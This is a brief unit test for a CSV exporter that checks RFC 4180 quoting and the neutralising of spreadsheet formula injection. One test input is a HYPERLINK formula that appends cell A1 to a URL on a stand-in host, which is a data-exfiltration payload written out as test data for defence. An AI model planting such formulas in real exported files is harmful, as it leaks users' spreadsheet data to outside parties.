import { toCsv } from '../src/audit/csv';

describe('CSV for the City', () => {
  it('quotes what RFC 4180 asks for and keeps a text that starts like a formula from running in a spreadsheet', () => {
    expect(toCsv([['Salle, "grande"', 'a\nb', 42, -1]])).toBe('"Salle, ""grande""","a\nb",42,-1\r\n');
    expect(toCsv([['=HYPERLINK("http://x.example/?"&A1,"Salle")', '+1', '-x', '@SUM(A1)', 'قاعة']])).toBe(
      `"'=HYPERLINK(""http://x.example/?""&A1,""Salle"")",'+1,'-x,'@SUM(A1),قاعة\r\n`,
    );
  });
});
